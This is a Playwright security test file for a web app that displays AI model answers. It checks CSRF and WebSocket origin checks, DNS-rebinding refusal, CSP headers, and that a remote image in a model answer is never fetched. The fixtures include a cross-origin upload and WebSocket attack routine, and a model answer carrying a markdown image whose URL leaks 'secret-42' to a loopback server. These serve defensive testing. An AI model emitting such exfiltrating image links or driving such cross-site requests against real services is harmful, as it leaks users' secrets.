// Browser protections, in real Chromium: a foreign page cannot drive the app, DNS-rebinding names are refused,
// the SPA runs under its strict CSP, and a remote image in a model answer is never fetched.
import { createServer, type IncomingMessage, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { readdirSync, readFileSync, statSync } from "node:fs";
import path from "node:path";
import { expect, state, test } from "./fixtures";
import { startServers, stopServers, type ServerState } from "./servers";

const CSP = "default-src 'self'; img-src 'self' data: blob:; frame-ancestors 'none'; base-uri 'none'; form-action 'self'; object-src 'none'";

/** A loopback HTTP server on a free port; `requests` records every request it receives. */
async function listen(handler: (req: IncomingMessage) => { type: string; body: string }): Promise<{ server: Server; url: string; requests: string[] }> {
  const requests: string[] = [];
  const server = createServer((req, res) => {
    requests.push(req.url ?? "");
    const { type, body } = handler(req);
    res.writeHead(200, { "content-type": type });
    res.end(body);
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  return { server, url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, requests };
}

function filesContaining(root: string, needle: string): string[] {
  const hits: string[] = [];
  const walk = (dir: string): void => {
    for (const name of readdirSync(dir)) {
      const full = path.join(dir, name);
      const info = statSync(full);
      if (info.isDirectory()) walk(full);
      else if (info.isFile() && info.size < 1_000_000 && readFileSync(full).includes(needle)) hits.push(full);
    }
  };
  walk(root);
  return hits;
}

// What a page does to the app: a no-preflight multipart POST (a "simple" request) and a WebSocket that asks for
// the active runs. Runs inside the page, so it must not use anything from this module.
interface Outcome { post: string; frames: string[]; close: number; reason: string }

async function drive({ appUrl, marker }: { appUrl: string; marker: string }): Promise<Outcome> {
  const form = new FormData();
  form.append("file", new Blob([marker], { type: "text/plain" }), "planted.txt");
  let post: string;
  try {
    const response = await fetch(`${appUrl}/api/v1/attachments`, { method: "POST", body: form, mode: "no-cors" });
    post = response.type === "opaque" ? "opaque" : String(response.status);
  } catch (error) {
    post = `failed: ${String(error)}`;
  }
  const frames: string[] = [];
  const ws = new WebSocket(`${appUrl.replace(/^http/, "ws")}/api/v1/ws/execution`);
  ws.onopen = () => ws.send(JSON.stringify({ type: "command", command: "ping" }));
  ws.onmessage = (event) => {
    frames.push(String(event.data));
    if (String(event.data).includes('"result"')) ws.close(1000, "done");
  };
  const closed = await new Promise<CloseEvent>((resolve) => {
    ws.onclose = resolve;
    setTimeout(() => ws.close(1000, "timeout"), 10_000);
  });
  return { post, frames, close: closed.code, reason: closed.reason };
}

test("a page from another origin cannot upload or drive the WebSocket; the app's own page can", async ({ page, baseURL }) => {
  const app = baseURL!;
  const foreign = await listen(() => ({ type: "text/html", body: "<!doctype html><title>elsewhere</title><p>another site</p>" }));
  try {
    await page.goto(`${foreign.url}/`);
    const marker = `planted-by-a-foreign-page-${Date.now()}`;
    const attack = await page.evaluate(drive, { appUrl: app, marker });
    expect(attack.post).toBe("opaque"); // the browser sent it; the server must have refused it
    expect(attack.frames.map((f) => JSON.parse(f).code)).toEqual(["origin_not_allowed"]);
    expect([attack.close, attack.reason]).toEqual([4403, "origin_not_allowed"]);
    expect(filesContaining(state().dataDir, marker)).toEqual([]);

    await page.goto("/app/workspace");
    const own = await page.evaluate(drive, { appUrl: app, marker: `uploaded-by-the-app-${Date.now()}` });
    expect(own.frames.map((f) => JSON.parse(f).type)).toEqual(["result"]);
    expect(own.close).toBe(1000);
    const made = await page.evaluate(async () => (await fetch("/api/v1/sessions", { method: "POST", headers: { "content-type": "application/json" }, body: "{}" })).status);
    expect(made).toBe(201);
  } finally {
    foreign.server.close();
  }
});

test("a DNS-rebinding name gets host_not_allowed, not the app", async ({ page, baseURL }) => {
  const port = new URL(baseURL!).port;
  const response = await page.goto(`http://rebind.test:${port}/app/workspace`);
  expect(response?.status()).toBe(421);
  expect(await response?.json()).toMatchObject({ error: { code: "host_not_allowed" } });
});

test.describe("a model answer with a remote image", () => {
  let stack: ServerState;
  let listener: Awaited<ReturnType<typeof listen>>;
  let leak: string;

  test.beforeAll(async () => {
    listener = await listen(() => ({ type: "image/png", body: "" }));
    leak = `${listener.url}/?leak=secret-42`;
    stack = await startServers({ answer: `Your chart: ![x](${leak}) done.` });
  });

  test.afterAll(async () => {
    if (stack) stopServers(stack);
    listener?.server.close();
  });

  test("is shown as a link and never fetched, under the SPA's CSP", async ({ page, shot }) => {
    const violations: string[] = [];
    page.on("console", (message) => {
      if (/Content Security Policy|Refused to/i.test(message.text())) violations.push(message.text());
    });
    const spa = await page.goto(`${stack.baseUrl}/app/workspace`);
    expect(spa?.headers()["content-security-policy"]).toBe(CSP);
    expect(spa?.headers()["x-frame-options"]).toBe("DENY");
    expect(spa?.headers()["referrer-policy"]).toBe("no-referrer");
    expect(spa?.headers()["x-content-type-options"]).toBe("nosniff");
    await page.getByRole("textbox", { name: /^Task/ }).fill("Draw me a chart");
    await page.getByRole("combobox", { name: "Mode" }).selectOption("rlm");
    await page.getByRole("button", { name: "Run ▶" }).click();
    const run = page.getByTestId("run-panel").last();
    await expect(run).toHaveAttribute("data-phase", "succeeded", { timeout: 45_000 });
    const answer = run.getByTestId("answer");
    const link = answer.getByRole("link", { name: `x (${leak})` });
    await expect(link).toHaveAttribute("href", leak);
    await expect(answer.locator("img")).toHaveCount(0);
    await page.reload();
    await expect(page.getByTestId("answer").last().getByRole("link", { name: `x (${leak})` })).toBeVisible();
    await shot("security-remote-image-as-link");
    expect(listener.requests).toEqual([]);
    expect(violations).toEqual([]);
  });
});
